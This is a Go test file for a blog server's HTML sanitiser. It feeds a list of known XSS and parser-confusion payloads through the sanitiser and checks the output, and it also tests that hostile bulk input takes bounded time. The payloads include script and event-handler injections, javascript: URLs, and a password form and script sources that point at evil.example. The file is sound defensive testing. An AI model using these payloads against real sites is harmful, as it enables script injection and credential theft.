package safehtml_test

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/bloghorn/bloghorn/server/costtest"
	"github.com/bloghorn/bloghorn/server/safehtml"
)

// attacks are inputs that once got past some sanitiser.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<p onclick="alert(1)" style="position:fixed" id="x" name="y">x</p>`, `<a href="x" onmouseover=alert(1)>x</a>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<template><script>alert(1)</script></template>`, `<template><template></template><img src=x onerror=alert(1)></template>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="data:text/html,x"></object>`,
	`<embed src="//evil.example/x.swf">`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`,
	`<form action="//evil.example"><input name=password><button>Log in</button></form>`, `<textarea></textarea><img src=x onerror=alert(1)></textarea>`,
	`<title></title><img src=x onerror=alert(1)>`, `<plaintext><script>alert(1)`, `<select><template><img src=x onerror=alert(1)></select>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<!--!><script>alert(1)</script>-->`, `<![CDATA[><img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><script>x</script>`,
	`<a href="java&#x09;script:alert(1)">x</a>`, `<a href="&#1;javascript:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<video><source onerror=alert(1)></video>`,
	"<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "<\xffscript>alert(1)</script>", `<a href="https://x.example/" class="mention admin-button" rel="opener" target="_self">x</a>`,
	`</p></div></li></ol></article><p>outside</p>`, `<li>no list</li><td>no table</td><rt>no ruby</rt>`, `<b><p>x</b></p><p>y</p>`, `<a href="/1"><a href="/2">x</a></a>`,
	`<table><a href="/x"><tr><td><b>1<td>2</table>`, `<p><svg><p><style><a title="</style><script>alert(1)</script>">`, `<details open ontoggle=alert(1)>x</details>`,
}

// attributeOrder is that of the output; the parser of x/net sorts by name.
var attributeOrder = []string{"href", "src", "alt", "class", "rel", "title", "width", "height", "start", "reversed", "value"}

var allowed = regexp.MustCompile(`^(p|br|a|span|strong|b|em|i|u|del|s|sub|sup|code|pre|blockquote|ul|ol|li|h[2-6]|ruby|rt|rp|img|figure|figcaption)$`)

// check parses the output as a browser does and fails on anything that is not allowed, or that a browser would read as another tree.
func check(t *testing.T, in string, out safehtml.HTML) {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(out.String()), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		t.Fatalf("%.80q came out as %.200q, which does not parse: %v", in, out, err)
	}
	var again strings.Builder
	for _, n := range nodes {
		checkNode(t, in, n)
		if err := html.Render(&again, n); err != nil {
			t.Fatal(err)
		}
	}
	if again.String() != out.String() {
		t.Errorf("%q came out as\n%q, which a browser reads as\n%q", in, out, again.String())
	}
}

func checkNode(t *testing.T, in string, n *html.Node) {
	t.Helper()
	if n.Type == html.ElementNode && !allowed.MatchString(n.Data) || n.Type == html.CommentNode || n.Namespace != "" {
		t.Errorf("%q: <%s> came out", in, n.Data)
	}
	for _, a := range n.Attr {
		switch a.Key {
		case "href", "src":
			if !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "http://") && !(a.Key == "href" && strings.HasPrefix(a.Val, "mailto:")) {
				t.Errorf("%q: %s=%q came out", in, a.Key, a.Val)
			}
		default:
			if !slices.Contains(attributeOrder, a.Key) {
				t.Errorf("%q: attribute %s came out", in, a.Key)
			}
		}
	}
	slices.SortFunc(n.Attr, func(a, b html.Attribute) int {
		return slices.Index(attributeOrder, a.Key) - slices.Index(attributeOrder, b.Key)
	})
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		checkNode(t, in, c)
	}
}

func TestAttacksComeOutHarmless(t *testing.T) {
	for _, attack := range attacks {
		for _, in := range []string{attack, "<p>before " + attack + " after</p>", "<ul><li>" + attack + "</ul>", "<b>" + attack} {
			check(t, in, safehtml.Article(in, page))
			check(t, in, safehtml.Comment(in))
			if out := safehtml.Comment(in).String(); strings.Contains(out, "<img") {
				t.Errorf("%q came out as a comment with an image: %s", in, out)
			}
		}
	}
}

// Each input is the worst of its kind: what is done with it must not grow with the square of its size.
func TestHostileBulkTakesBoundedTime(t *testing.T) {
	size := costtest.Pick(64<<10, 1<<20) // all that is read
	repeat := strings.Repeat
	fill := func(piece string) func(n int) string {
		return func(n int) string { return repeat(piece, n/len(piece)) }
	}
	between := func(before, piece, after string) func(n int) string {
		return func(n int) string { return before + repeat(piece, n/len(piece)) + after }
	}
	for name, in := range map[string]func(n int) string{
		"nested b":            func(n int) string { return repeat("<b>", n/7) + "deep" + repeat("</b>", n/7) },
		"nested boxes":        fill("<div>"),
		"nested quotes":       fill("<blockquote>x"),
		"unclosed formats":    func(n int) string { return "<p>" + fill("<b><i><u><a href=x><code>")(n/2) + "</p>" + fill("<p>x")(n/2) },
		"formats and blocks":  between(repeat("<b>", 60), "<p>x</p>", ""),
		"distinct formats":    between("<p><b 1><b 2><b 3><b 4><b 5><b 6>", "<p>x</p>", ""),
		"end tags":            between(repeat("<b>", 63), "</i>", ""),
		"ends across blocks":  fill("<b><ul><li></b>"),
		"empty paragraphs":    between(repeat("<blockquote>", 60), "<p> </p>", ""),
		"attributes":          between("<p ", "a=b ", ">"),
		"same attribute":      between("<img ", "src ", ">"),
		"entities":            fill("&amp;&bogus;&#x41;"),
		"open comment":        fill("<!-- "),
		"open tag":            fill("<a href='"),
		"svg":                 fill("<svg><style><b>"),
		"templates":           fill("<template><select>"),
		"lists":               fill("<ul><li>"),
		"tables":              fill("<table><tr><td>"),
		"links":               fill(`<a href="http://x.example/%">`),
		"long words of links": between(`<a href="`, "%", `">x</a>`),
		"ruby":                fill("<ruby><rt>"),
		"hidden text":         fill(`<a href="http://x.example/"><span class="invisible">`),
	} {
		costtest.Linear(t, name, size, func(n int) func() {
			in := in(n)
			return func() {
				article, comment := safehtml.Article(in, page), safehtml.Comment(in)
				safehtml.Text(in)
				safehtml.Links(article)
				safehtml.TrimMention(comment, "@tea@blog.example")
			}
		})
		bulk := in(size)
		check(t, bulk[:40], safehtml.Article(bulk, page))
		check(t, bulk[:40], safehtml.Comment(bulk))
	}
}

func FuzzCleaningTwiceChangesNothing(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Add(`<p><span class="h-card"><a href="https://blog.example/blogs/tea" class="u-url mention">@<span>tea</span></a></span> Nice</p>`)
	f.Add("<pre>\n\n<b>\nx</b></pre><ol start=3 reversed><li value=2><p>x<ul><li>y</ol>")
	f.Fuzz(func(t *testing.T, in string) {
		checkStable(t, in)
		safehtml.Text(in)
		safehtml.Excerpt(in, 40)
		safehtml.Links(safehtml.Article(in, nil))
	})
}
